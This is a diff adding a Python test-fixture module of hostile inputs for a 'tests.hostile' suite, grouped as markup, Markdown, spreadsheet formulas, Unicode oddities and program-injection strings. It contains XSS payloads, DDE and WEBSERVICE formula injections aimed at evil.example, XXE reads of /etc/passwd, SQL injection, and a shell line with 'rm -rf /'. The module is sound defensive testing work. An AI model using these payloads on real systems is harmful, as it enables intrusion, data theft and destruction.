@@ -1,0 +1,140 @@
+"""Texts that attempt something, by what they try: the long list behind `tests.hostile`."""
+
+from __future__ import annotations
+
+EVIL = "http://evil.example"
+RUNS = "window.broken=1"
+"""A script that a browser test notices where it runs."""
+MARKUP = {
+    "svg onload": f"<svg onload={RUNS}><script>{RUNS}</script></svg>",
+    "frame": f"<iframe src='{EVIL}' srcdoc='<script>top.{RUNS}</script>'></iframe>",
+    "style": f"<style>@import '{EVIL}/a.css'; *{{background:url({EVIL}/b.png)}}</style>",
+    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
+    "base": f'<base href="{EVIL}/"><link rel="stylesheet" href="/x.css">',
+    "object": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x"><video src="{EVIL}/y">',
+    "form": f'<form action="{EVIL}"><button formaction="javascript:{RUNS}">Go</button></form>',
+    "closing title": f"</title></head><body onload={RUNS}><img src=x onerror={RUNS}>",
+    "closing style": f"</style></textarea></noscript></template><script>{RUNS}</script>",
+    "closing script": f"</script><!--<script>--><script>{RUNS}</script>",
+    "closing comment": f"--> --!> <!-- ]]> <![CDATA[ <script>{RUNS}</script>",
+    "attribute": f"\"><script>{RUNS}</script> '><script>{RUNS}</script>",
+    "handler": f"x\" onmouseover=\"{RUNS}\" y=' onfocus='{RUNS}' autofocus='",
+    "unfinished tag": f"<img src=x onerror={RUNS} //",
+    "strange case": f"<ScRiPt/x>{RUNS}</sCrIpT\n><IMG\tSRC=x\nONERROR={RUNS}>",
+    "doubled brackets": f"<<script>{RUNS}//<</script>>",
+    "address in a link": f'<a href="javascript:{RUNS}" ping="{EVIL}">click</a>',
+    "mathematics in markup": f"<math><mtext><img src=x onerror={RUNS}></mtext></math>",
+    "full-width markup": "\uff1cscript\uff1ewindow.broken=1\uff1c/script\uff1e",
+}
+"""What a browser would run, load or send."""
+MARKDOWN = {
+    "image in a link": f"[![x]({EVIL}/x.png 'title')]({EVIL}) ![](<{EVIL}/y z.png>)",
+    "reference": f"[click][evil] ![x][evil]\n\n[evil]: {EVIL} 'title'",
+    "footnote": f"a[^1] b[^evil]\n\n[^1]: {EVIL}\n[^evil]: <script>{RUNS}</script>",
+    "table": f"| a | b |\n|---|---|\n| ![x]({EVIL}/t.png) | <b>c</b> |",
+    "fence": f"```html\n<script>{RUNS}</script>\n```\n~~~\n    indented",
+    "heading": f"Heading\n=======\n\n* * *\n1. one\n- [ ] task {EVIL}",
+    "colours": ":red[red] :blue-background[b] :rainbow[c] :small[d] :green-badge[:material/key: e]",
+    "streamlit's icons": ":material/delete: :streamlit: :+1: :rocket: <- -> <-> -- ~~gone~~",
+    "escaped already": f"\\<b\\> \\[x\\]({EVIL}) \\\\![x]({EVIL}/e.png) \\",
+    "link by scheme": f"[a](javascript:{RUNS}) [b](data:text/html,x) [c](//evil.example) <a:b>",
+    "mathematics alone": "$$\\begin{matrix}x\\end{matrix}$$ $\\unicode{<img src=x>}$ \\(y\\)",
+}
+"""What Streamlit or a reader of Markdown would draw, link or load."""
+FORMULAS = {
+    "formula with plus": "+1+cmd|' /C calc'!A0",
+    "formula with minus": "-2+3+cmd|' /C calc'!A0",
+    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "data exchange": "=cmd|' /C calc'!A0",
+    "full-width equals": "\uff1d1+1",
+    "full-width plus": "\uff0b1+1",
+    "full-width minus": "\uff0d1+1",
+    "full-width at": "\uff20SUM(1+1)",
+    "quote and formula": '"=1+1",=2+2,\'=3+3',
+    "apostrophe and formula": "'=1+1",
+    "semicolon and formula": "a;=1+1;@SUM(1);\"-1+cmd|' /C calc'!A0",
+    "newline and formula": "two lines\n=1+1\n+cmd|' /C calc'!A0",
+    "tab and formula": "two cells\t=1+1\t-2",
+    "quoted cell": 'x","=1+1","\n"=2+2',
+    "web service": f'=WEBSERVICE("{EVIL}/?"&A1)&IMPORTXML("{EVIL}";"//a")',
+    "escape of a workbook": "_x003D_1+1 _x000D_",
+    "number that is text": "1e9",
+    "invisible before a formula": "\u200b=1+1",
+    "byte order mark and formula": "\ufeff=1+1",
+}
+"""What a spreadsheet would compute, fetch or start."""
+LETTERS = {
+    "marks of direction": "\u200f5 \u061c\u0634\u062e\u0635 \u200e<b>\u200f 7/3",
+    "right to left with digits": "\u0642\u062a\u0644 5 \u0634\u062e\u0635 (12:30) \u05d0 1-2",
+    "joiners": "a\u200cb\u200dc\u200bd\u2060e\ufeff=f",
+    "piled-up accents": "Z\u0351\u036b\u0343\u036a" * 60 + "\u0489",
+    "long piled-up accents": "a" + "\u0301" * 1_899,
+    "long families": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 " * 40 + "end",
+    "flags and tones": "\U0001f3f4\U000e0067\U000e007f \U0001f1ee\U0001f1f7 \U0001f44d\U0001f3ff",
+    "no characters": "a\ufffeb\uffffc\ufdd0d\U0001fffe \U0010ffff",
+    "line separators": "a\u2028b\u2029c",
+    "replacement and private": "\ufffd \ue000 \ufffc \ufff9a\ufffab\ufffb \U000f0000",
+    "homoglyphs": "\u0440\u0430\u0443\u0440\u0430l.com \u0391 \u2024\u2024/ \u2215 \uff0e\uff0f",
+    "ligatures that grow": "\ufdfa" * 200,
+    "one long word": "\u5de8" * 1_900,
+    "spaces of every kind": "a\u00a0b\u2003c\u3000d\u1680e\u202ff",
+    "capitals that grow": "\u0130stanbul \u00df \ufb03 \u0149 \u1e9e",
+}
+"""What alphabets hold that breaks programs."""
+PROGRAMS = {
+    "templates": "{{7*7}} {% x %} ${7*7} #{7*7} <%= 7 %> {0} {x!r} {0.__class__} %s %(x)s %n %x",
+    "breaking out of scripts": f"\"; {RUNS}; // '); {RUNS}; (' \\u003cscript\\u003e \\\" \\",
+    "json": '"}], "evil": {"__proto__": {"x": 1}}, "a": ["\\ud800", NaN]',
+    "linked data": '{"@context": "http://evil.example/context", "@id": "@type", "@graph": []}',
+    "latex": "\\input{/etc/passwd} \\write18{ls} % gone } { \\end{document} $x$ ^_~#&",
+    "bibtex": "}, note = {x}} @article{evil, title = {y}}\n@string{a = {b}}",
+    "ris": "x\nER  - \nTY  - JOUR\nTI  - evil",
+    "xml": ']]> <!ENTITY xxe SYSTEM "file:///etc/passwd"> &xxe; <?xml version="1.0"?> &#0; &#x1F;',
+    "more xml": '<xi:include href="file:///etc/passwd"/> <a xmlns="evil" xlink:href="x"/> &amp',
+    "sql": "' OR 1=1 -- \"; DROP TABLE revision; -- /* % _ \\",
+    "search": 'NEAR("a" b, 5) a* ^b col:c -d "unfinished AND (OR NOT {x y} : z',
+    "paths": "../../etc/passwd ..\\..\\x C:\\CON file:///etc/passwd ~/.ssh ./x/../y",
+    "file names": "x.csv%00.html\u2044..%2f..%5c NUL.zip :stream |pipe>out *?",
+    "addresses": f"javascript:{RUNS} data:text/html,<script>{RUNS}</script> //evil.example",
+    "hosts": "https://good.example@evil.example https://xn--80ak6aa92e.com http://\u0440\u0430\u0443.example",
+    "header": "x%0d%0aSet-Cookie: a=1%0d%0a\n\n<b>",
+    "header lines": "a\nSet-Cookie: evil=1\nLocation: http://evil.example",
+    "chart expressions": "datum.x + signal('width') + '' + {expr: \"open('http://evil.example')\"}",
+    "chart fields": "a.b[c]['d'].e\\.f __proto__ constructor datum['x'] \"\" @{x} url(#y)",
+    "chart addresses": f'{{"href": "{EVIL}", "url": "{EVIL}/x.png", "param": "x"}}',
+    "names of programs": "__proto__",
+    "constructor": "constructor",
+    "not a number": "NaN",
+    "nothing": "null",
+    "shell": "$(touch /tmp/evil) `id` ; rm -rf / | cat && x > y",
+    "terminal": "\\x1b[2J \\e]8;; ^[[31m %1b[0m",
+    "style rules": "x;} body{display:none} @import url(http://evil.example) /* expression(1)",
+}
+"""What programs that read our files, pages and addresses would take for their own words."""
+GROUPS = {
+    "markup": MARKUP,
+    "markdown": MARKDOWN,
+    "formulas": FORMULAS,
+    "letters": LETTERS,
+    "programs": PROGRAMS,
+}
+REFUSED = {
+    "null": "a\x00b",
+    "escape": "\x1b[31mred",
+    "backspace": "5\b7",
+    "return": "a\rb",
+    "vertical tab": "a\vb",
+    "bell": "a\x07",
+    "delete": "a\x7fb",
+    "next line": "a\x85b",
+    "string terminator": "a\x9cb",
+    "left-to-right override": "a\u202db",
+    "right-to-left override": "a\u202efdp.exe",
+    "embedding": "a\u202ab\u202bc\u202c",
+    "isolates": "\u2066a\u2069 \u2067b \u2068c",
+    "high surrogate": "a\ud83db",
+    "low surrogate": "a\udca9b",
+    "too long": "x" * 2_001,
+    "only spaces": "\u00a0 \u2003\n",
+}
+"""Texts that no record takes; actor and reason of a revision take all but lone surrogates."""
